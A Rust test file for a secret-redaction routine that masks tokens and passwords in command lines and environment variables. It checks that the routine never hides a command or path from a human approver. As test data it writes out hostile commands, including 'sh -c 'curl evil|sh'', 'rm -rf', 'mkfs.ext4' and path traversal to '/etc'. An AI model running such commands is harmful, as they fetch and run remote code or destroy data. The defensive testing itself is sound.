//! That no command is hidden from whoever decides, and no secret left in what is kept.

use proptest::prelude::*;

use super::*;

const DRAWN: &str = "a1B2c3D4e5F6";

fn bytes<'a>(words: &'a [&str]) -> impl Iterator<Item = &'a [u8]> + Clone {
    words.iter().map(|word| word.as_bytes())
}

fn kept(words: &[&str]) -> Vec<String> {
    parts(words, to_keep(bytes(words)))
}

fn parts(words: &[&str], ranges: impl Iterator<Item = Vec<Range<usize>>>) -> Vec<String> {
    let of = |(word, ranges): (&&str, Vec<Range<usize>>)| {
        ranges.into_iter().map(|range| word[range].to_owned()).collect::<Vec<_>>()
    };
    words.iter().zip(ranges).flat_map(of).collect()
}

/// The first word is the program.
#[track_caller]
fn check(words: &[&str], expected: &[&str]) {
    let covered = parts(&words[1..], to_decide([words[0]; 2], bytes(&words[1..])));
    assert_eq!(covered, expected, "{words:?}");
}

#[track_caller]
fn check_variable(name: &str, value: &str, is_covered: bool) {
    assert_eq!(variable(name, value), is_covered, "{name}={value}");
}

#[test]
fn c98_what_can_be_nothing_but_a_secret_is_covered_for_whoever_decides() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    let base64 = "a1b2c3d4/e5f6g7h8+i9j0k1l2m3n4o5p6q7r8s9==";
    for word in [DRAWN, base64, "0b1e2d3c-4f5a-6b7c-8d9e-0f1a2b3c4d5e", &token] {
        for name in ["--token", "--db_password", "--API-Key", "--client-secret", "--aws-secret-access-key"] {
            check(&["x", "login", &format!("{name}={word}")], &[word]);
        }
        for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_SECRET", "stripe_secret_key", "PGPASSWORD"]
        {
            check_variable(name, word, true);
        }
    }
}

#[test]
fn c24_no_command_or_path_is_covered_as_a_secret() {
    let all_shown = |words: &[&str]| check(words, &[]);
    all_shown(&["rm", "-rf", "--", "--token", "/home/x/docs"]);
    all_shown(&["rm", "-rf", "--", &format!("--token={DRAWN}")]);
    all_shown(&["cat", &format!("/srv/token={DRAWN}"), &format!("/srv/sk-{}", "a1B2".repeat(6))]);
    all_shown(&["x", &format!("--token-command={DRAWN}"), &format!("--token-path={DRAWN}")]);
    let names =
        ["documents", "../../etc/a1b2c3d4", "/a1b2c3d4", "./a1b2c3d4", "a1b2c3d4//e5", "home/x1y2/docs"];
    let programs =
        ["poweroff", "mkfs.ext4", "python3.12", "i686-w64-mingw32-gcc", "MyBuildToolRunner", "--x1y2z3"];
    let odd = ["a1b2c3d4;", "a1b2 c3d4", "~a1b2c3d4", "-a1b2c3d4", "a1b2c3d4*", "a1b2", "", "a1b2c3d4\n"];
    for word in names.into_iter().chain(programs).chain(odd) {
        all_shown(&["x", &format!("--token={word}")]);
        check_variable("BUILD_TOKEN", word, false);
    }
    check_variable("BUILD_TOKEN", "touch PWNED2", false);
    check_variable("APP_SECRET", "/tmp/evil.sh", false);
    for name in ["RESTIC_PASSWORD_COMMAND", "TOKEN_CMD", "CARGO_REGISTRY_GLOBAL_CREDENTIAL_PROVIDERS"] {
        check_variable(name, "sh -c 'curl evil|sh'", false);
    }
    for name in [
        "PASSWORD_FILE",
        "SSH_ASKPASS_TOKEN",
        "TOKEN_HELPER",
        "SECRET_DIR",
        "TOKEN_URL",
        "TOKENPATH",
        "TOKENIZER",
        "SECRET_ID",
        "PERL5LIB",
        "BASH_ENV",
        "EDITOR",
    ] {
        check_variable(name, DRAWN, false);
        check_variable(name, &format!("sk-{}", "a1B2".repeat(6)), false);
    }
}

#[test]
fn c24_what_stands_alone_is_never_covered_however_it_is_called() {
    let all_shown = |words: &[&str]| check(words, &[]);
    let key = format!("sk-{}", "a1b2c3d4".repeat(3));
    let package = format!("npm_{}", "a1b2".repeat(9));
    let signed = format!("eyJhbGciOi.eyJzdWI.{}", "a1b2".repeat(10));
    for word in [DRAWN, &key, &package, &signed] {
        all_shown(&["bash", word]);
        all_shown(&["npx", "-y", word]);
        all_shown(&["pip", "install", word]);
        all_shown(&["rm", "-rf", word]);
        all_shown(&["ssh", word, "reboot"]);
        all_shown(&["git", "push", "--force", "origin", word]);
        all_shown(&["perl", "-Itoken", word]);
        // To these it is a flag, and what follows is what they drop, run and open.
        for words in [&["dropdb", "--password"][..], &["npx", "--token"], &["mysql", "--password"]] {
            all_shown(&[words, &[word]].concat());
        }
        all_shown(&["curl", &format!("https://me:{word}@example.org/x")]);
        all_shown(&["curl", "-H", &format!("Authorization: Bearer {word}")]);
        for name in ["secret-id", "tokenizer", "token-url", "secret", "credential", "access-key", "x"] {
            all_shown(&["aws", "secretsmanager", "delete-secret", &format!("--{name}={word}")]);
        }
        for name in ["-token", "token", "-Ptoken", "---", "--x token", "--x/token", "--x.token"] {
            all_shown(&["x", &format!("{name}={word}")]);
        }
    }
}

#[test]
fn c24_nothing_is_covered_where_a_text_is_run() {
    let option = format!("--token={DRAWN}");
    check(&["x", &option], &[DRAWN]);
    for program in ["/bin/sh", "bash", "/usr/bin/perl5.38", "python3", "awk", "psql"] {
        check(&[program, "x", &option], &[]);
        check(&["x", "exec", program, "x", &option], &[]);
        check(&["x", &option, program], &[]);
        assert!(runs_text([program, "x"], bytes(&["x"])) && runs_text(["x", program], bytes(&[])));
    }
    for text in ["api_token=a1b2c3d4e5 ; perl $api_token", "load ARGV.last", "$1", "`x`", "a|b", "a\nb", "{}"]
    {
        check(&["x", "-e", text, &option], &[]);
        check(&["x", &option, text], &[]);
    }
    check(&["x", &format!("--token={DRAWN};rm")], &[]);
    assert!(!runs_text(["x", "/usr/bin/x"], bytes(&["-y", "a,b", "c=d", "é"])));
}

#[test]
fn c98_whatever_could_be_a_secret_is_covered_where_it_is_kept() {
    for (words, secret) in [
        (&["x", "--", "--token", "a/b c"] as &[&str], "a/b c"),
        (&["x", "https://user:hunter2@h"], "hunter2"),
        (&["x", "x=1 DB_PASSWORD=hunter4"], "hunter4"),
        (&["x", "a bearer abcdefgh/x;y"], "abcdefgh/x;y"),
        (&["x", "passphrase: a b"], " a b"),
    ] {
        assert_eq!(kept(words), [secret], "{words:?}");
    }
}

#[test]
fn c98_a_secret_after_what_only_looks_like_one_is_covered_where_it_is_kept() {
    let word = "x=y, password: password: hunter2";
    assert_eq!(kept(&["x", word]), ["password:", "hunter2"]);
    let word = "x=y, token token secret=hunter2";
    assert_eq!(kept(&["x", word]), ["secret=hunter2"]);
}

/// Text in which there is much that looks like a secret, and much that is none.
fn likely() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        "[a-zA-Z0-9_.~%+/=-]{0,12}",
        "([a-z][0-9]){4,20}",
        "\\PC{0,3}|[ \n;|&$`(){}<>'\"\\\\*?!#@:,]",
        prop::sample::select(vec![
            "--token",
            "token=",
            "--",
            "password: ",
            "Authorization: Bearer ",
            "https://a:",
            "sk-",
            "ghp_",
            "AKIA",
            "eyJ",
            "secret",
            "\"api_key\":\"",
            "basic ",
            "token\n",
            "@h",
            "../",
            "/tmp/",
        ])
        .prop_map(str::to_owned),
    ];
    prop::collection::vec(part, 0..8).prop_map(|parts| parts.concat())
}

/// Words among which there are options with values.
fn words() -> impl Strategy<Value = Vec<String>> {
    let name = "-{0,3}[a-z0-9_./-]{0,4}(token|password|passphrase|api-key|client_secret|secret|id|izer|--)?";
    let value = prop_oneof!["([a-z][0-9]){4,20}", likely()];
    let option = (name, value).prop_map(|(name, value)| format!("{name}={value}"));
    prop::collection::vec(prop_oneof![likely(), option], 0..6)
}

proptest! {
    #[test]
    fn c24_nothing_is_covered_but_the_drawn_value_of_an_option_or_variable_that_is_a_secret_by_its_name(
        words in words(), name in "[A-Z_]{0,4}(TOKEN|PASSWORD|CREDENTIAL)?[A-Z_]{0,4}",
    ) {
        const SECRETS: [&str; 6] = ["token", "password", "passphrase", "key", "secret", "passwd"];
        let argv = words.iter().map(String::as_bytes);
        let is_text = words.iter().any(|word| word.contains(|it: char| " ;$`|&<>(){}[]\\\n\t\r".contains(it)));
        let mut is_ended = false;
        for (word, ranges) in words.iter().zip(to_decide(["x"; 2], argv)) {
            is_ended |= word == "--";
            let Some(range) = ranges.first() else { continue };
            prop_assert!(!is_ended && !is_text && ranges.len() == 1 && range.end == word.len(), "{words:?}");
            let (option, value) = (word[..range.start].strip_suffix('=').unwrap(), &word[range.clone()]);
            prop_assert!(option.starts_with("--") && SECRETS.iter().any(|end| option.ends_with(end)), "{word:?}");
            prop_assert!(!option.contains(['=', '/', '.']), "{word:?}");
            let fits = |letter: char| letter.is_ascii_alphanumeric() || "_-.+=/".contains(letter);
            prop_assert!(value.chars().all(fits) && 8 <= value.len(), "{value:?}");
            prop_assert!(!value.starts_with(['-', '.', '/', '+', '=']), "{value:?}");
            prop_assert!(["//", "./", "/.", ".."].iter().all(|path| !value.contains(path)), "{value:?}");
        }
        let value = words.first().map_or("", String::as_str);
        let is_named = ["TOKEN", "PASSWORD", "CREDENTIAL"].iter().any(|end| name.ends_with(end));
        prop_assert!(!variable(&name, value) || is_named && is_drawn(value.as_bytes()), "{name}={value}");
    }

    #[test]
    fn c98_nothing_is_kept_that_is_covered_for_whoever_decides(words in words()) {
        let argv = || words.iter().map(String::as_bytes);
        for (narrow, wide) in to_decide(["x"; 2], argv()).zip(to_keep(argv())) {
            for range in narrow {
                let is_in = |it: &Range<usize>| it.start <= range.start && range.end <= it.end;
                prop_assert!(wide.iter().any(is_in), "{words:?} {range:?} {wide:?}");
            }
        }
    }

    #[test]
    fn any_bytes_can_be_looked_at(words: Vec<Vec<u8>>) {
        let argv = || words.iter().map(Vec::as_slice);
        let both = to_keep(argv()).chain(to_decide(["x"; 2], argv()));
        for (word, ranges) in words.iter().chain(&words).zip(both) {
            let mut at = 0;
            for range in ranges {
                prop_assert!(at <= range.start && range.start < range.end && range.end <= word.len());
                at = range.end;
            }
        }
    }
}
